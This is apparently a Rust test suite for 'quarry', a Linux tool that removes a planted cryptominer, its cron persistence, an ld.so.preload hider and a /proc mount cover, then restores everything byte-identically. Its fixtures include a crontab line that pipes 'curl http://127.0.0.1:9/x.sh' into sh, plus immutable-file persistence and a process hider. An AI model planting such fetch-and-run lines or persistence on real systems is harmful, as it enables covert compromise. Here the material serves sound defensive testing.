//! Issue 5: `quarry fix` removes a miner for good (watchdog, cron, chattr),
//! loses nothing (`quarry restore` puts everything back byte-identical), a dry
//! run changes nothing, an interrupted fix can be undone, and protected
//! processes survive.
//!
//! Every test here runs `fix` or `restore` as root, so each one re-runs
//! itself in its own mount and PID namespace (`sandboxed!`, see
//! tests/common `sandbox`): overlays on tmpfs over /etc, /usr/local, /var/lib,
//! /var/spool, …, fresh tmpfs over /tmp, and a PID namespace where only the
//! test's own processes exist. Every `fix --yes` is scoped with `--only` to
//! the test's own PIDs and files.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use common::*;
use quarry::respond::case::set_attrs;

const MINER: &str = "/tmp/quarry-fix-test/minerd";
const CRON_D: &str = "/etc/cron.d/quarry-fix-test";
const ROOT_CRONTAB: &str = "/var/spool/cron/crontabs/root";

/// Restores a file (or removes it) on drop, clearing chattr attributes first;
/// kills anything still running the miner.
struct Scenario {
    files: Vec<(PathBuf, Option<Vec<u8>>)>,
    dirs: Vec<PathBuf>,
    procs: Vec<ProcGuard>,
}

impl Scenario {
    fn new() -> Scenario {
        Scenario {
            files: vec![],
            dirs: vec![],
            procs: vec![],
        }
    }
    fn write(&mut self, path: &str, content: &[u8]) {
        let p = PathBuf::from(path);
        let mut missing = Vec::new();
        let mut a = p.parent();
        while let Some(d) = a {
            if d.exists() {
                break;
            }
            missing.push(d.to_path_buf());
            a = d.parent();
        }
        self.dirs.extend(missing.into_iter().rev());
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        if !self.files.iter().any(|(f, _)| *f == p) {
            self.files.push((p.clone(), std::fs::read(&p).ok()));
        }
        let _ = set_attrs(&p, false, false);
        std::fs::write(&p, content).unwrap();
    }
}

impl Drop for Scenario {
    fn drop(&mut self) {
        self.procs.clear();
        for pid in pids_running(MINER) {
            let _ = rustix::process::kill_process(
                rustix::process::Pid::from_raw(pid).unwrap(),
                rustix::process::Signal::KILL,
            );
        }
        for (p, orig) in self.files.iter().rev() {
            let _ = set_attrs(p, false, false);
            match orig {
                Some(c) => {
                    let _ = std::fs::write(p, c);
                }
                None => {
                    let _ = std::fs::remove_file(p);
                }
            }
        }
        for d in self.dirs.iter().rev() {
            let _ = std::fs::remove_dir(d);
        }
        let _ = set_attrs(Path::new(MINER), false, false);
        let _ = std::fs::remove_dir_all("/tmp/quarry-fix-test");
    }
}

const CRON_D_TEXT: &str = "# quarry test\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n* * * * * root /tmp/quarry-fix-test/minerd\n30 2 * * * root /usr/bin/true\n";
const CRONTAB_TEXT: &str = "# m h dom mon dow command\n0 3 * * * /usr/bin/true backup\n*/5 * * * * curl -fsSL http://127.0.0.1:9/x.sh | sh\n15 4 * * 1 /usr/bin/true weekly\n";

/// Starts the miner under a watchdog shell that restarts it every second,
/// plants the cron entries, and makes the binary and the crontab immutable.
fn plant(s: &mut Scenario, immutable: bool) -> Vec<u8> {
    std::fs::create_dir_all("/tmp/quarry-fix-test").unwrap();
    std::fs::copy(burner(), MINER).unwrap();
    std::fs::set_permissions(MINER, std::fs::Permissions::from_mode(0o755)).unwrap();
    s.write(CRON_D, CRON_D_TEXT.as_bytes());
    s.write(ROOT_CRONTAB, CRONTAB_TEXT.as_bytes());
    std::fs::set_permissions(ROOT_CRONTAB, std::fs::Permissions::from_mode(0o600)).unwrap();
    if immutable {
        set_attrs(Path::new(MINER), true, false).unwrap();
        set_attrs(Path::new(ROOT_CRONTAB), true, false).unwrap();
    }
    let mut cmd = Command::new("sh");
    cmd.args([
        "-c",
        &format!("echo ready $$; while true; do {MINER}; sleep 1; done"),
    ]);
    s.procs.push(start(cmd));
    let t = Instant::now();
    while pids_running(MINER).is_empty() && t.elapsed() < Duration::from_secs(5) {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(!pids_running(MINER).is_empty(), "miner did not start");
    std::thread::sleep(Duration::from_millis(500));
    std::fs::read(MINER).unwrap()
}

/// Where cases go (the default; inside the sandbox it is an overlay).
const CASES: &str = "/var/lib/quarry/cases";

/// `quarry restore ID`, which must succeed.
fn restore(case: &Path) {
    let id = case.file_name().unwrap().to_str().unwrap();
    let (code, out, err) = quarry(&["restore", id]);
    assert_eq!(code, 0, "{err}{}", String::from_utf8_lossy(&out));
}

fn only_case() -> PathBuf {
    let cases: Vec<PathBuf> = std::fs::read_dir(CASES)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    assert_eq!(cases.len(), 1, "{cases:?}");
    cases[0].clone()
}

/// The `--only` scope of the fix scenario: the miner and its start-up files.
fn scope() -> String {
    let pids: Vec<String> = pids_running(MINER).iter().map(|p| p.to_string()).collect();
    format!("{},{CRON_D},{ROOT_CRONTAB}", pids.join(","))
}

#[test]
fn fix_removes_the_miner_for_good_and_restore_brings_everything_back() {
    sandboxed!("fix_removes_the_miner_for_good_and_restore_brings_everything_back");
    let mut s = Scenario::new();
    let original = plant(&mut s, true);
    let (st, out) = fix(&["--yes", "--interval", "0.5", "--only", &scope()], &[]);
    assert!(st.success(), "fix failed:\n{out}");
    assert!(
        out.contains("froze PID") && out.contains("killed PID"),
        "{out}"
    );

    // No miner for the next 10 seconds: the watchdog is gone too.
    let t = Instant::now();
    while t.elapsed() < Duration::from_secs(10) {
        assert!(
            pids_running(MINER).is_empty(),
            "the miner is running again:\n{out}"
        );
        std::thread::sleep(Duration::from_millis(250));
    }
    assert!(!Path::new(MINER).exists(), "binary not quarantined");
    // Only the malicious cron lines are gone.
    let cron_d = std::fs::read_to_string(CRON_D).unwrap();
    assert_eq!(
        cron_d,
        CRON_D_TEXT.replace("* * * * * root /tmp/quarry-fix-test/minerd\n", "")
    );
    let crontab = std::fs::read_to_string(ROOT_CRONTAB).unwrap();
    assert_eq!(
        crontab,
        CRONTAB_TEXT.replace("*/5 * * * * curl -fsSL http://127.0.0.1:9/x.sh | sh\n", "")
    );

    // The case holds the file, with a correct manifest, not executable.
    let case = only_case();
    let manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(case.join("manifest.json")).unwrap()).unwrap();
    let q = manifest
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == "quarantine" && e["original"] == MINER)
        .unwrap_or_else(|| panic!("{manifest:#}"));
    assert_eq!(q["sha256"], quarry::collect::modules::sha256_hex(&original));
    assert_eq!(q["meta"]["immutable"], true);
    assert_eq!(q["meta"]["mode"], 0o755);
    let stored = case.join(q["stored"].as_str().unwrap());
    assert_eq!(std::fs::read(&stored).unwrap(), original);
    assert_eq!(
        std::fs::metadata(&stored).unwrap().permissions().mode() & 0o777,
        0o400
    );
    assert!(case.join("journal.jsonl").exists());
    assert!(
        std::fs::read_dir(case.join("evidence")).unwrap().count() >= 2,
        "evidence of miner and watchdog"
    );

    // Restore: byte-identical files, lines back, attributes back.
    restore(&case);
    assert_eq!(std::fs::read(MINER).unwrap(), original);
    assert_eq!(
        std::fs::metadata(MINER).unwrap().permissions().mode() & 0o7777,
        0o755
    );
    assert_eq!(
        quarry::respond::case::get_attrs(Path::new(MINER)).unwrap(),
        (true, false)
    );
    assert_eq!(std::fs::read_to_string(CRON_D).unwrap(), CRON_D_TEXT);
    assert_eq!(std::fs::read_to_string(ROOT_CRONTAB).unwrap(), CRONTAB_TEXT);
    assert_eq!(
        quarry::respond::case::get_attrs(Path::new(ROOT_CRONTAB)).unwrap(),
        (true, false)
    );
    let listed = String::from_utf8(quarry(&["cases"]).1).unwrap();
    assert!(
        listed.contains("[restored]") && listed.contains("quarantined"),
        "{listed}"
    );
}

/// Everything a dry run could change.
fn state() -> (Vec<u8>, String, String, Vec<i32>) {
    (
        std::fs::read(MINER).unwrap(),
        std::fs::read_to_string(CRON_D).unwrap(),
        std::fs::read_to_string(ROOT_CRONTAB).unwrap(),
        pids_running(MINER),
    )
}

#[test]
fn dry_run_changes_nothing() {
    sandboxed!("dry_run_changes_nothing");
    let mut s = Scenario::new();
    plant(&mut s, false);
    let before = state();
    // Unscoped: the miner's verdict rests on its name, folder and restarter
    // (its own evidence is its CPU alone), so it is reported, not acted on
    // (issue 20); the root cron line that restarts it from /tmp is removed.
    let (st, out) = fix(&["--interval", "0.5"], &[]);
    assert_eq!(st.code(), Some(1), "{out}");
    assert!(out.contains("Dry run: nothing was changed"), "{out}");
    assert!(
        !out.contains("quarantine /tmp/quarry-fix-test/minerd"),
        "{out}"
    );
    assert!(
        out.contains("\"minerd\" is a cryptominer")
            && out.contains("reported, not acted on (its own evidence weighs"),
        "{out}"
    );
    assert!(
        out.contains("remove line 4 of /etc/cron.d/quarry-fix-test"),
        "{out}"
    );
    // Scoped to the miner and its start-up files, as an administrator would
    // after reading the report: the plan kills and quarantines it.
    let (st, out) = fix(&["--interval", "0.5", "--only", &scope()], &[]);
    assert_eq!(st.code(), Some(1), "{out}");
    assert!(out.contains("Dry run: nothing was changed"), "{out}");
    assert!(
        out.contains("quarantine /tmp/quarry-fix-test/minerd"),
        "{out}"
    );
    let after = state();
    assert_eq!(before.0, after.0);
    assert_eq!(before.1, after.1);
    assert_eq!(before.2, after.2);
    // The same miner process still runs (a dry run freezes and kills nothing).
    assert_eq!(before.3, after.3, "{out}");
    assert!(
        std::fs::read_dir(CASES).map_or(true, |d| d.count() == 0),
        "a dry run created a case"
    );
}

#[test]
fn interrupted_fix_is_recovered_by_restore() {
    sandboxed!("interrupted_fix_is_recovered_by_restore");
    let mut s = Scenario::new();
    let original = plant(&mut s, false);
    // Killed right after the 8th completed step: after the cron edits and the
    // kills, around the quarantine.
    let (st, out) = fix(
        &["--yes", "--interval", "0.5", "--only", &scope()],
        &[("QUARRY_FIX_CRASH_AFTER", "8")],
    );
    assert_eq!(st.signal(), Some(9), "quarry was not interrupted:\n{out}");
    let case = only_case();
    let listed = String::from_utf8(quarry(&["cases"]).1).unwrap();
    assert!(listed.contains("INTERRUPTED"), "{listed}");
    restore(&case);
    assert_eq!(std::fs::read(MINER).unwrap(), original);
    assert_eq!(std::fs::read_to_string(CRON_D).unwrap(), CRON_D_TEXT);
    assert_eq!(std::fs::read_to_string(ROOT_CRONTAB).unwrap(), CRONTAB_TEXT);
}

#[test]
fn protected_processes_survive_even_when_a_rule_flags_them() {
    sandboxed!("protected_processes_survive_even_when_a_rule_flags_them");
    let dir = tempfile::tempdir().unwrap();
    let _d = PathGuard("/tmp/quarry-fix-test".into());
    let _a = install_burner("/tmp/quarry-fix-test/qallowed");
    let _v = install_burner("/tmp/quarry-fix-test/qvictim");
    let allowed = start(Command::new("/tmp/quarry-fix-test/qallowed"));
    let victim = start(Command::new("/tmp/quarry-fix-test/qvictim"));
    let init = std::fs::read_to_string("/proc/1/comm")
        .unwrap()
        .trim()
        .to_string();
    // Quarry runs under a shell that stays its parent: an ancestor to protect.
    let rules = dir.path().join("r.toml");
    std::fs::write(
        &rules,
        format!(
            "version = 1\n[[indicator]]\nkind = \"process-name\"\nvalues = [{:?}, \"sh\", \"qallowed\", \"qvictim\"]\nweight = 6\nnote = \"test rule\"\nsource = \"quarry test suite\"\n",
            init
        ),
    )
    .unwrap();
    let allow = dir.path().join("allow.toml");
    std::fs::write(
        &allow,
        "[[executable]]\npath = \"/tmp/quarry-fix-test/qallowed\"\n",
    )
    .unwrap();
    let out = Command::new("sh")
        .args(["-c", "\"$@\"; exit $?", "sh", QUARRY, "fix"])
        .args([
            "--yes",
            "--interval",
            "0.3",
            "--only",
            "miner.process",
            "--rules",
            rules.to_str().unwrap(),
            "--allowlist",
            allow.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let out = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.contains("refused: PID 1 "), "{out}");
    // The executables of protected processes are not quarantined either: here
    // PID 1 is this very test program, which must still exist.
    assert!(
        std::env::current_exe()
            .unwrap()
            .to_str()
            .is_some_and(|p| !p.ends_with(" (deleted)") && Path::new(p).exists()),
        "the test program was quarantined:\n{out}"
    );
    assert!(out.contains("which is never touched"), "{out}");
    assert!(out.contains("an ancestor of Quarry"), "{out}");
    assert!(out.contains("allowlisted"), "{out}");
    assert!(Path::new("/proc/1").exists());
    assert!(
        Path::new(&format!("/proc/{}", allowed.pid)).exists(),
        "allowlisted process was killed:\n{out}"
    );
    assert!(
        std::fs::read_to_string(format!("/proc/{}/stat", allowed.pid))
            .unwrap()
            .contains(") R")
            || std::fs::read_to_string(format!("/proc/{}/stat", allowed.pid))
                .unwrap()
                .contains(") S"),
        "allowlisted process was frozen"
    );
    // The unprotected one was stopped (it is our child: a zombie until reaped).
    let st_v = std::fs::read_to_string(format!("/proc/{}/stat", victim.pid)).unwrap_or_default();
    assert!(
        st_v.is_empty() || st_v.contains(") Z"),
        "victim still running: {st_v}\n{out}"
    );
}

#[test]
fn fix_removes_a_preload_hider_and_a_proc_cover() {
    sandboxed!("fix_removes_a_preload_hider_and_a_proc_cover");
    let libdir = PathGuard("/usr/local/lib/quarry-fix-hider".into());
    std::fs::create_dir_all(&libdir.0).unwrap();
    let lib = libdir.0.join("libsystem.so");
    build_hider(&lib, "minerd");
    let lib_bytes = std::fs::read(&lib).unwrap();
    let _d = PathGuard("/tmp/quarry-fix-test".into());
    let _m = install_burner(MINER);
    let miner = start(Command::new(MINER));
    let _h = install_burner("/tmp/quarry-fix-test/kcovered");
    let covered = start(Command::new("/tmp/quarry-fix-test/kcovered"));
    let empty = tempfile::tempdir().unwrap();
    let cover = PathBuf::from(format!("/proc/{}", covered.pid));
    rustix::mount::mount_bind(empty.path(), &cover).unwrap();
    let _mg = MountGuard(cover.clone());
    let original_preload = std::fs::read("/etc/ld.so.preload").ok();
    let _pg = PreloadGuard(original_preload.clone());
    let preload_text = format!(
        "{}{}\n",
        String::from_utf8_lossy(original_preload.as_deref().unwrap_or_default()),
        lib.display()
    );
    std::fs::write("/etc/ld.so.preload", &preload_text).unwrap();

    let (st, out) = fix(
        &[
            "--yes",
            "--interval",
            "0.5",
            "--only",
            &format!("{},{},{}", miner.pid, covered.pid, lib.display()),
        ],
        &[],
    );
    assert!(
        out.contains(&format!("unmounted /proc/{}", covered.pid)),
        "{out}"
    );
    assert!(
        out.contains("quarantined /usr/local/lib/quarry-fix-hider/libsystem.so"),
        "{out}"
    );
    assert!(st.success(), "{out}");
    let preload_now = std::fs::read_to_string("/etc/ld.so.preload").unwrap_or_default();
    assert!(!preload_now.contains("libsystem.so"), "{preload_now}");
    assert!(!lib.exists());
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(
        !mountinfo.contains(&format!(" /proc/{} ", covered.pid)),
        "cover still mounted"
    );
    for pid in [miner.pid, covered.pid] {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        assert!(
            stat.is_empty() || stat.contains(") Z"),
            "PID {pid} still runs: {stat}\n{out}"
        );
    }
    // Restore puts the library and the preload entry back, byte for byte.
    let case = only_case();
    restore(&case);
    assert_eq!(std::fs::read(&lib).unwrap(), lib_bytes);
    assert_eq!(
        std::fs::read_to_string("/etc/ld.so.preload").unwrap(),
        preload_text
    );
}
